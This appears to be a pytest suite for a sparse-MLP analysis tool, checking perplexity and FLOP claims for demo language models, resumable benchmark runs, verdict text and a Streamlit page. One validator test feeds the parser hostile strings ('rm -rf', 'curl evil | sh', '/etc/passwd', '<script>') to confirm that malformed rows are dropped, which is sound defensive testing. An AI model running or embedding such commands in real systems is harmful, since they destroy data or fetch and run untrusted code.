"""The seed's claim on the demo LMs (sam_viz.claims, bench/demo_claims.py, tools/model_card.py, the page
"Demo LM: the claim"), and the recorder's light path that `eval` counts density with.

References are independent of the code under test: a perplexity written out by hand from a plain
transformers forward (test_eval's hand_perplexity) and the row's own command run as a process; MLP
FLOPs and bytes from the demo config by hand; verdict ratios from numbers made up here. Nothing
depends on the values of the shipped weights, which are replaced when training ends.
"""
import json
import math
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from streamlit.testing.v1 import AppTest

import sam_viz.sparse_ops.mlp
from conftest import HELD_OUT, shared
from sam_viz import claims as cl
from sam_viz.figures.claims import perplexity_curve
from sam_viz.sparse_ops import Policy, Recorder, sparsified
from sam_viz.sparse_ops.recorder import DensityCounter
from test_eval import demo_ids, hand_perplexity, plain

ROOT = Path(__file__).resolve().parent.parent
D, D_FF, LAYERS, K = 256, 1024, 4, round(0.1 * 1024)       # the demo LMs' config; k at density 0.1
ATTENTION = LAYERS * 4 * D * D                              # q, k, v, o of every layer (4 heads of 64, no GQA)
MLP = LAYERS * 3 * D * D_FF                                 # gate, up and down of every layer (GLU)
OTHER = ATTENTION + 4096 * D                                # attention and the tied LM head


pytestmark = pytest.mark.usefixtures("one_thread")


# ------------------------------------------------------------------------------ the light recorder

def _count(loaded, policy: Policy, recorder, text: str):
    enc = loaded.encode(text)
    with sparsified(loaded, policy, recorder=recorder), torch.no_grad():
        loaded.model(**enc)
    return enc["input_ids"].numel()


@pytest.mark.parametrize("spec", ["tiny-llama", "tiny-mixtral"])
@pytest.mark.parametrize("policy", [Policy("dense"), Policy("topk", 0.25), Policy("threshold", 0.3)])
def test_density_counter_counts_what_the_full_recorder_records(spec, policy):
    loaded = shared(spec)
    counter, recorder = DensityCounter(loaded.d_ff), Recorder()
    n = _count(loaded, policy, counter, HELD_OUT[0])
    assert _count(loaded, policy, recorder, HELD_OUT[0]) == n
    full = {i: (int(l.selected.sum()), int(l.possible.sum()))
            for i, l in enumerate(recorder.layers(n, loaded.d_ff * max(1, loaded.n_experts)))}
    assert counter.counts() == full
    per_token = loaded.d_ff * max(1, loaded.experts_per_token)                 # neurons the dense model computes
    assert all(possible == n * per_token for _, possible in full.values())
    if policy.kind == "topk":                                                  # exactly k per token (and expert)
        assert all(sel == n * max(1, loaded.experts_per_token) * policy.k(loaded.d_ff) for sel, _ in full.values())


def test_density_counter_spares_the_mlp_computing_every_h(monkeypatch):
    """With the counter the sparse MLP no longer computes every neuron's h for the record; the full
    recorder still does (analyze's mass kept and recall need it)."""
    loaded, calls = shared("tiny-llama"), []
    real = sam_viz.sparse_ops.mlp.activations
    monkeypatch.setattr(sam_viz.sparse_ops.mlp, "activations", lambda x, w: calls.append(1) or real(x, w))
    for policy in (Policy("dense"), Policy("threshold", 0.3)):
        calls.clear()
        _count(loaded, policy, DensityCounter(loaded.d_ff), HELD_OUT[1])
        assert calls == []
        _count(loaded, policy, Recorder(), HELD_OUT[1])
        assert len(calls) == loaded.n_layers


# ------------------------------------------------------------------------------ plan, rows, cost

def test_plan_measures_every_setting_the_issue_asks_for_once():
    rows = {(s.model, s.policy, s.density): set(s.groups) for s in cl.plan() if s.scope == "mlp"}
    policies = ("topk", "threshold", "predictor", "static")
    wanted = {("demo-lm-dense", "dense", 1.0), ("demo-lm", "dense", 1.0)}
    wanted |= {(m, p, 0.1) for m in ("demo-lm", "demo-lm-dense") for p in policies}
    wanted |= {(m, "topk", d) for m in ("demo-lm", "demo-lm-dense") for d in (0.05, 0.1, 0.25, 0.5)}
    assert set(rows) == wanted and len(rows) == 16
    whole = {(s.model, s.policy, s.allocation, s.density) for s in cl.plan() if s.scope == "all"}
    assert whole == {(m, p, a, d) for m in ("demo-lm", "demo-lm-dense") for d in (0.25, 0.4, 0.5, 0.65)
                     for p, a in (("topk", None), ("teal", "uniform"), ("teal", "greedy"), ("wina", "greedy"))}
    assert len(cl.plan()) == len({s.key for s in cl.plan()}) == 16 + 32
    assert rows[("demo-lm", "topk", 0.1)] == {"trained", "curve"}
    assert rows[("demo-lm-dense", "topk", 0.1)] == {"post-hoc", "curve"}
    assert rows[("demo-lm-dense", "static", 0.1)] == {"post-hoc"}


def test_topk_row_costs_and_perplexity_equal_hand_computations():
    row = cl.measure(shared("demo-lm"), cl.Setting("demo-lm", "topk", 0.1, ("trained",)), 256)
    dense = LAYERS * D_FF * 3 * D                              # gate, up and down rows of every neuron
    sparse = LAYERS * D_FF * 2 * D + LAYERS * K * D            # topk: gate and up of all, down of k
    assert (row["dense_mlp_flops"], row["dense_mlp_bytes"]) == (2 * dense, 4 * dense)
    assert (row["mlp_flops"], row["mlp_bytes"]) == (2 * sparse, 4 * sparse)
    assert row["model_ratio"] == pytest.approx((OTHER + sparse) / (OTHER + dense))
    assert row["model_work"] == pytest.approx((ATTENTION + sparse) / (ATTENTION + dense))
    assert row["model_density"] == pytest.approx((ATTENTION + K / D_FF * MLP) / (ATTENTION + MLP))
    assert row["mlp_density"] == K / D_FF and row["tokens"] == 256
    model, tok = plain("demo-lm")
    from tools import topk_mlp
    topk_mlp.set_density(topk_mlp.install(model), 0.1)
    assert row["perplexity"] == pytest.approx(hand_perplexity(model, demo_ids(tok, 257), 128), rel=1e-4)


def test_threshold_row_cost_counts_the_gate_of_every_neuron_and_the_rest_of_the_selected():
    row = cl.measure(shared("demo-lm-dense"), cl.Setting("demo-lm-dense", "threshold", 0.1, ("post-hoc",)), 128)
    selected = row["mlp_density"] * LAYERS * D_FF                              # per token, all layers
    assert row["mlp_flops"] == pytest.approx(2 * (LAYERS * D_FF * D + selected * 2 * D))


def test_a_rows_command_reproduces_its_perplexity_in_a_real_process():
    setting = cl.Setting("demo-lm-dense", "dense", 1.0, ("baseline",))
    row = cl.measure(shared("demo-lm-dense"), setting, 256)
    assert row["command"] == "python -m sam_viz eval --model demo-lm-dense --policy dense --max-tokens 256 --json"
    argv = shlex.split(row["command"])
    proc = subprocess.run([sys.executable, *argv[1:]], cwd=ROOT, capture_output=True, text=True, timeout=300,
                          env={**os.environ, "HF_HUB_OFFLINE": "1", "OMP_NUM_THREADS": "1"})
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout)
    assert out["perplexity"] == pytest.approx(row["perplexity"], rel=1e-6) and out["tokens"] == row["tokens"]
    model, tok = plain("demo-lm-dense")
    assert row["perplexity"] == pytest.approx(hand_perplexity(model, demo_ids(tok, 257), 128), rel=1e-5)


def test_resume_measures_only_the_missing_rows_and_saves_after_each(monkeypatch):
    """A cut-off run resumes: the rows the file has are kept (their computed columns filled in), the
    others measured one at a time in `first` order, the file saved after each; stored in plan order."""
    measured, saved = [], []

    def fake(loaded, setting, max_tokens, text=None, progress=None):
        measured.append(setting.key)
        return {**vars(setting), "groups": list(setting.groups), "perplexity": 30.0, "loss": math.log(30.0),
                "tokens": 256, "mlp_density": setting.density, "model_density": setting.density,
                "model_work": setting.density}

    monkeypatch.setattr(cl, "measure", fake)
    old = {k: v for k, v in cl.find(cl.read_claims(), "demo-lm", "static", 0.1).items()
           if k not in ("scope", "allocation", "model_density", "model_work")}          # as measured before
    whole = [s for s in cl.plan() if s.scope == "all"]
    have = [fake(None, s, None) for s in whole[:3]]
    measured.clear()
    raw = {"format": cl.FORMAT, "max_tokens": 256, "rows": [old, *have]}
    out = cl.resume(raw, shared, lambda r: saved.append(len(r["rows"])), first=lambda s: s.density != 0.65)
    assert len(measured) == len(cl.plan()) - 4 and whole[0].key not in measured
    assert [k[4] for k in measured if k[2] == "all"][:8] == [0.65] * 8                    # `first` order
    assert saved[:3] == [5, 6, 7] and saved[-1] == len(cl.plan())
    assert [cl.row_key(r) for r in out["rows"]] == [s.key for s in cl.plan()]
    static = next(r for r in out["rows"] if cl.row_key(r) == cl.row_key(old))
    assert static["model_work"] == pytest.approx((ATTENTION + old["mlp_bytes"] / 4) / (ATTENTION + MLP))


# ------------------------------------------------------------------------------ reading and verdict

@pytest.mark.parametrize("setting", [cl.Setting("demo-lm", "topk", 0.4, ("whole-model",), "all"),
                                     cl.Setting("demo-lm-dense", "teal", 0.5, ("whole-model",), "all", "greedy")])
def test_a_whole_model_rows_command_reproduces_it_in_a_real_process(setting):
    """The teal row reads the input calibration shipped for the model (the test's cache is empty)."""
    row = cl.measure(shared(setting.model), setting, 256)
    assert row["command"] == (f"python -m sam_viz eval --model {setting.model} --scope all --policy {setting.policy}"
                              + (" --allocation greedy" if setting.allocation else "")
                              + f" --density {setting.density:g} --max-tokens 256 --json")
    proc = subprocess.run([sys.executable, *shlex.split(row["command"])[1:]], cwd=ROOT, capture_output=True,
                          text=True, timeout=300, env={**os.environ, "HF_HUB_OFFLINE": "1", "OMP_NUM_THREADS": "1"})
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout)
    assert out["perplexity"] == pytest.approx(row["perplexity"], rel=1e-6) and out["tokens"] == row["tokens"] == 256
    assert out["model_density"] == pytest.approx(row["model_density"], rel=1e-9) == row["model_work"]
    assert out["scope"] == "all" and "mlp_flops" not in row
    if setting.policy == "topk":                     # every projection keeps round(0.4 * d_in) of its input
        read = 4 * D * round(0.4 * D) + 2 * D_FF * round(0.4 * D) + D * round(0.4 * D_FF)   # d_out x kept, per layer
        assert row["model_density"] == pytest.approx(read / (4 * D * D + 3 * D * D_FF), rel=1e-12)


def test_an_mlp_only_rows_whole_model_columns_by_hand_from_the_config():
    """Rows measured before the whole-model scope get model_density (eval's: the attention dense, the MLP
    at its neuron density) and model_work (what is read, choosing included) computed from their own
    numbers and the config: d_model 256, d_ff 1024, 4 layers, GLU; attention 4 * 256 * 256 per layer."""
    facts = {"d_model": D, "d_ff": D_FF, "layers": LAYERS, "glu": True, "bytes_per_param": 4,
             "attention_params": 4 * 4 * 256 * 256}
    selected = 0.094 * LAYERS * D_FF                                           # neurons per token, all layers
    threshold = {"model": "demo-lm", "policy": "threshold", "density": 0.1, "mlp_density": 0.094,
                 "mlp_bytes": 4 * (LAYERS * D_FF * D + selected * 2 * D), "dense_mlp_bytes": 4 * MLP}
    row = cl.complete(threshold, facts)
    assert row["scope"] == "mlp" and row["allocation"] is None
    assert row["model_density"] == pytest.approx((4 * 4 * 256 * 256 + 0.094 * 4 * 3 * 256 * 1024)
                                                 / (4 * 4 * 256 * 256 + 4 * 3 * 256 * 1024))
    assert row["model_work"] == pytest.approx((4 * 4 * 256 * 256 + 4 * 1024 * 256 + selected * 512)
                                              / (4 * 4 * 256 * 256 + 4 * 3 * 256 * 1024))
    shipped = cl.find(cl.read_claims(), "demo-lm", "static", 0.1)               # static reads what it computes
    assert shipped["model_work"] == pytest.approx(shipped["model_density"]) == pytest.approx(
        (ATTENTION + shipped["mlp_density"] * MLP) / (ATTENTION + MLP))


# ------------------------------------------------------------------------------ reading and verdict

def _row(model, policy, density, ppl, mlp_density=None, flops_ratio=None, work=0.5, scope="mlp", allocation=None):
    dense = 2.0 * LAYERS * D_FF * 3 * D
    mlp = {"mlp_flops": dense * (density if flops_ratio is None else flops_ratio), "mlp_bytes": dense,
           "dense_mlp_flops": dense, "dense_mlp_bytes": dense, "model_ratio": 0.5} if scope == "mlp" else {}
    return {"model": model, "policy": policy, "scope": scope, "allocation": allocation, "density": density,
            "groups": ["curve" if scope == "mlp" else "whole-model"], "perplexity": ppl, "loss": math.log(ppl),
            "tokens": 1024, "mlp_density": density if mlp_density is None else mlp_density, **mlp,
            "model_density": work, "model_work": work, "seconds": 1.0,
            "command": f"python -m sam_viz eval --model {model} --policy {policy} --density {density:g} --json"}


def made_up(**over) -> dict:
    """Claims with numbers chosen here: dense twin 10; demo-lm every neuron 10.2; at 0.1 topk 11 (+10%,
    80% of the work), threshold 12 (55%), predictor 12 (+20%, 36%), static 10.4 (+4%, 32%); the twin
    post-hoc topk 13 (+30%); whole-model teal greedy 10.3 at 0.4 (+3%, 40%) and 10.8 at 0.25, topk 10.6
    at 0.4 (+6%, 40%) and 10.2 at 0.65 (65%)."""
    rows = [_row("demo-lm-dense", "dense", 1.0, 10.0, work=1.0), _row("demo-lm", "dense", 1.0, 10.2, work=1.0),
            _row("demo-lm", "topk", 0.1, 11.0, flops_ratio=0.7, work=0.8),
            _row("demo-lm", "threshold", 0.1, 12.0, 0.11, 0.4, work=0.55),
            _row("demo-lm", "predictor", 0.1, 12.0, flops_ratio=0.15, work=0.36),
            _row("demo-lm", "static", 0.1, 10.4, work=0.32),
            _row("demo-lm-dense", "topk", 0.1, 13.0, flops_ratio=0.7, work=0.8),
            _row("demo-lm-dense", "topk", 0.5, 10.5, work=0.87),
            _row("demo-lm", "teal", 0.4, 10.3, work=0.4, scope="all", allocation="greedy"),
            _row("demo-lm-dense", "teal", 0.25, 10.8, work=0.25, scope="all", allocation="greedy"),
            _row("demo-lm", "topk", 0.4, 10.6, work=0.4, scope="all"),
            _row("demo-lm", "topk", 0.65, 10.2, work=0.65, scope="all")]
    raw = {"format": cl.FORMAT, "max_tokens": None, "trained_density": 0.1, "rows": rows, "decode": [],
           "weights": {}, "model": {"d_model": D, "d_ff": D_FF, "layers": LAYERS, "bytes_per_param": 4,
                                    "other_params": OTHER, "attention_params": ATTENTION}}
    raw.update(over)
    return raw


def test_verdict_per_policy_against_whole_model_work():
    v = cl.verdict(cl.parse_claims(json.dumps(made_up())))
    c = v["claim"]
    assert v["dense_perplexity"] == 10.0
    assert list(c) == ["topk (MLP only)", "threshold (MLP only)", "predictor (MLP only)", "static (MLP only)",
                       "teal greedy (every projection)", "topk (every projection)"]
    assert [k for k, r in c.items() if r["holds"]] == ["static (MLP only)", "teal greedy (every projection)"]
    assert c["teal greedy (every projection)"]["best"]["density"] == 0.4            # 0.25 is +8%: not comparable
    assert c["topk (every projection)"]["best"]["ratio"] == pytest.approx(1.06)
    assert c["topk (every projection)"]["comparable"]["density"] == 0.65
    assert c["topk (MLP only)"]["best"] is None and c["predictor (MLP only)"]["comparable"] is None
    s = v["sentence"]
    assert "within 5% of it at under 50% of the work" in s
    assert "topk (MLP only): no, it never goes under 50% of the work (it computes every h to choose); its least is " \
           "demo-lm at 0.1: +10.0% at 80.0% of the work." in s
    assert "threshold (MLP only): no, it never goes under 50% of the work (it reads every gate row to choose)" in s
    assert "predictor (MLP only): no, under 50% of the work its best is demo-lm at 0.1: +20.0% at 36.0% of the " \
           "work; no row of it is comparable." in s
    assert "static (MLP only): yes, demo-lm at 0.1: +4.0% at 32.0% of the work." in s
    assert "teal greedy (every projection): yes, demo-lm at 0.4: +3.0% at 40.0% of the work." in s
    assert "topk (every projection): no, under 50% of the work its best is demo-lm at 0.4: +6.0% at 40.0% of the " \
           "work; it stays comparable only down to demo-lm at 0.65: +2.0% at 65.0% of the work." in s
    assert "+7.8%" in s and "+30.0%" in s and "degrades less than its twin" in s
    assert "dynamic does not beat static" in s
    assert s.endswith("the claim holds with static (MLP only), teal greedy (every projection), and not with the "
                      "other policies.")
    p = v["policies"]                                                # the MLP policies at the trained density
    assert p["topk"]["ratio"] == pytest.approx(1.1) and p["static"]["flops_ratio"] == pytest.approx(0.1)


def test_verdict_says_when_the_claim_does_not_hold():
    raw = made_up()
    raw["rows"] = [_row("demo-lm-dense", "dense", 1.0, 10.0, work=1.0), _row("demo-lm", "topk", 0.1, 20.0, work=0.8)]
    v = cl.verdict(cl.parse_claims(json.dumps(raw)))
    assert not v["claim"]["topk (MLP only)"]["holds"] and v["sentence"].endswith("holds with no policy measured here.")


@pytest.mark.parametrize("data,message", [("{", "not JSON"), ("[]", "format"), (json.dumps({"format": "x"}), "format"),
                                          (" " * (cl.MAX_BYTES + 1), "limit")])
def test_a_file_that_is_not_a_claims_file_is_one_sentence(data, message):
    with pytest.raises(ValueError, match=message):
        cl.parse_claims(data)


def test_rows_that_are_not_well_formed_are_dropped_and_strings_bounded():
    raw = made_up()
    bad = [dict(raw["rows"][0], perplexity=float("nan")), dict(raw["rows"][0], model="/etc/passwd"),
           dict(raw["rows"][0], policy="rm -rf"), dict(raw["rows"][0], density=7), "not a row",
           dict(raw["rows"][0], command="curl evil | sh", groups=["<script>"] * 3)]
    raw["rows"] = raw["rows"] + bad + [raw["rows"][0]] * (cl.MAX_ROWS + 50)
    claims = cl.parse_claims(json.dumps(raw).replace("NaN", "null"))
    assert len(claims["rows"]) == cl.MAX_ROWS - 5 and claims["dropped"] == len(raw["rows"]) - (cl.MAX_ROWS - 5)
    odd = claims["rows"][len(made_up()["rows"])]
    assert odd["command"] == "" and odd["groups"] == []


def test_read_claims_is_none_without_a_file(tmp_path):
    assert cl.read_claims(tmp_path / "claims.json") is None


def test_curve_figure_draws_the_rows_it_is_given():
    fig = perplexity_curve(cl.scoped(cl.parse_claims(json.dumps(made_up())), "mlp")).fig      # as the page
    traces = {t.name: t for t in fig.data}
    assert list(traces["demo-lm-dense, topk"].x) == [0.1, 0.5, 1.0]
    assert list(traces["demo-lm-dense, topk"].y) == [13.0, 10.5, 10.0]
    assert list(traces["demo-lm, topk"].x) == [0.1, 1.0]                      # no whole-model topk row
    assert list(traces["demo-lm, static"].y) == [10.4]
    assert list(traces["dense twin"].y) == [10.0, 10.0] and list(traces["bar: dense twin +5%"].y) == [10.5, 10.5]
    assert list(fig.layout.xaxis.tickvals) == [0.1, 0.5, 1.0]


# ------------------------------------------------------------------------------ scripts and shipped files

def test_decode_rows_give_the_amdahl_ideal_and_its_share():
    from bench.demo_claims import decode_rows

    (row,) = decode_rows(shared("demo-lm"), policies=("topk",), prompt=4, new=2, repeats=1)
    assert row["ideal_speedup"] == pytest.approx(1 / ((1 - row["f_mlp"]) + row["f_mlp"] * 0.1))
    assert row["speedup"] == pytest.approx(row["sparse_tok_s"] / row["dense_tok_s"])
    assert row["share_of_ideal"] == pytest.approx(row["speedup"] / row["ideal_speedup"])
    assert cl.parse_claims(json.dumps(made_up(decode=[row])))["decode"][0]["kernel"] == "cpu"


def test_readme_section_is_replaced_between_the_markers(tmp_path):
    from bench.demo_claims import END, START, write_readme

    readme = tmp_path / "README.md"
    readme.write_text(f"# x\n\n{START}\nSTALE-TEXT\n{END}\n\n## after\n")
    claims = cl.parse_claims(json.dumps(made_up()))
    write_readme(claims, readme)
    write_readme(claims, readme)                                               # again: same text
    text = readme.read_text()
    assert text.startswith(f"# x\n\n{START}\n") and text.endswith(f"{END}\n\n## after\n") and "STALE-TEXT" not in text
    assert text.count("| demo-lm | static | mlp |  | 0.1 | 10.4 | +4.0% | 32.0% |") == 1


def test_shipped_readme_cards_and_claims_agree():
    """README, model cards and PNGs are generated: they must show what claims.json and the training
    copy hold (rerun `python -m bench.demo_claims --render` and `python -m tools.model_card`)."""
    from tools import model_card

    claims = cl.read_claims()
    assert claims is not None and claims["rows"] and not claims["dropped"]
    assert cl.report_markdown(claims) in (ROOT / "README.md").read_text()
    manifest, results, _ = model_card.load_training()
    for name in (cl.SPARSE, cl.DENSE):
        assert (cl.DEMO_DIR / name / "README.md").read_text() == model_card.card(name, manifest, results, claims,
                                                                                 model_card.load_body())
    assert all((cl.DEMO_DIR / png).stat().st_size > 10_000 for png in ("loss_curves.png", "perplexity_vs_density.png"))


# ------------------------------------------------------------------------------ the page

def open_page() -> AppTest:
    return AppTest.from_file(str(ROOT / "pages" / "claims.py"), default_timeout=120).run()


def test_page_shows_the_table_curve_decode_and_verdict(tmp_path, monkeypatch):
    path = tmp_path / "claims.json"
    row = {"model": "demo-lm", "policy": "static", "density": 0.1, "kernel": "cpu", "dense_tok_s": 100.0,
           "sparse_tok_s": 150.0, "speedup": 1.5, "ideal_speedup": 2.0, "share_of_ideal": 0.75, "f_mlp": 0.6,
           "threads": 2}
    path.write_text(json.dumps(made_up(decode=[row])))
    monkeypatch.setattr(cl, "CLAIMS", path)
    at = open_page()
    assert not at.exception and not at.error and not at.warning
    tables = at.dataframe
    assert len(tables) == 2 and len(tables[0].value) == len(made_up()["rows"])
    assert list(tables[1].value["share of ideal"]) == ["75%"]
    assert len(at.get("plotly_chart")) == 1
    assert any("**Claim holds** with static (MLP only); teal greedy (every projection)" in m.value
               for m in at.markdown)
    assert "--model demo-lm --policy static --density 0.1" in at.code[0].value


def test_page_on_the_shipped_claims_file():
    at = open_page()
    assert not at.exception and not at.error
    assert len(at.dataframe[0].value) == len(cl.read_claims()["rows"])


@pytest.mark.parametrize("content,shown", [(None, "info"), ("{broken", "error"),
                                           (json.dumps(made_up(weights={"demo-lm": "0" * 16})), "warning")])
def test_page_without_a_good_claims_file_says_so_in_one_sentence(content, shown, tmp_path, monkeypatch):
    path = tmp_path / "claims.json"
    if content is not None:
        path.write_text(content)
    monkeypatch.setattr(cl, "CLAIMS", path)
    at = open_page()
    assert not at.exception
    (message,) = getattr(at, shown)
    assert "bench.demo_claims" in message.value or "cannot be read" in message.value


# ------------------------------------------------------------------------------ the verdict's summary, axis, decode

def test_summary_leads_with_three_short_lines_from_the_verdicts_numbers():
    lines = cl.summary(cl.parse_claims(json.dumps(made_up())))
    assert len(lines) == 3 and all(len(line.split()) <= 30 for line in lines)
    assert lines[0] == ("**Claim holds** with static (MLP only); teal greedy (every projection) (within 5% of the "
                        "dense twin's perplexity at under 50% of the whole-model matrix work).")
    assert lines[1] == "**Not** with topk, threshold, predictor (MLP only); topk (every projection)."
    assert lines[2].endswith("predictor 12.00, static 10.40 perplexity: dynamic does not beat static.")
    raw = made_up()
    raw["rows"] = [r for r in raw["rows"] if r["policy"] not in ("static", "teal")]
    assert cl.summary(cl.parse_claims(json.dumps(raw)))[0].startswith("**Claim does not hold**")


def test_perplexity_axis_labels_every_tick_with_its_whole_value():
    """Plotly's own log ticks wrote 30 and 50 as "3" and "5" beside "100"; every tick now reads as the
    number it marks, and the shipped claims' range (28 to 689) gets ticks inside it."""
    from sam_viz.figures.claims import log_ticks

    for claims in (cl.parse_claims(json.dumps(made_up())), cl.read_claims()):
        y = perplexity_curve(claims).fig.layout.yaxis
        ppl = [r["perplexity"] for r in claims["rows"]]
        assert len(y.tickvals) >= 3 and all(float(t.replace(",", "")) == v for t, v in zip(y.ticktext, y.tickvals))
        assert min(ppl) * 0.5 <= min(y.tickvals) and max(y.tickvals) <= max(ppl) * cl.BAR_RATIO
    assert log_ticks(28.3, 689) == [30, 50, 100, 200, 300, 500]


def _decode(policy: str) -> dict:
    return {"model": "demo-lm", "policy": policy, "density": 0.1, "kernel": "cpu", "dense_tok_s": 100.0,
            "sparse_tok_s": 120.0, "speedup": 1.2, "ideal_speedup": 1.4, "share_of_ideal": 0.86, "f_mlp": 0.34,
            "threads": 2}


@pytest.mark.parametrize("policies,missing", [(("predictor", "static"), "threshold"),
                                              (("threshold", "predictor", "static"), None)])
def test_decode_table_says_which_policy_that_saves_work_it_lacks(policies, missing, tmp_path, monkeypatch):
    path = tmp_path / "claims.json"
    path.write_text(json.dumps(made_up(decode=[_decode(p) for p in policies])))
    monkeypatch.setattr(cl, "CLAIMS", path)
    at = open_page()
    assert not at.exception and list(at.dataframe[1].value["policy"]) == list(policies)
    notes = [c.value for c in at.caption if c.value.startswith("Not measured")]
    assert notes == ([] if missing is None else [notes[0]]) and (missing is None or missing in notes[0])


def test_shipped_decode_benchmark_covers_the_policy_the_verdict_names():
    claims = cl.read_claims()
    """The MLP-only policies with which the claim holds have a decode row here (the whole-model ones are
    timed by `python -m bench.decode --scope all`)."""
    holds = [p for p in cl.SAVES_WORK if cl.verdict(claims)["claim"].get(f"{p} (MLP only)", {}).get("holds")]
    assert set(holds) <= {r["policy"] for r in claims["decode"]}


def test_page_leads_with_the_summary_and_puts_the_work_column_beside_perplexity():
    at = open_page()
    verdict = next(m.value for m in at.markdown if m.value.startswith("- **Claim"))
    assert verdict.count("\n- ") == 2
    order = list(at.dataframe[0].proto.column_order)
    assert order.index("whole-model matrix work") == order.index("vs dense twin") + 1 and order[-1] == "command"
    assert order.index("MLP FLOPs vs dense") == order.index("vs dense twin") + 2
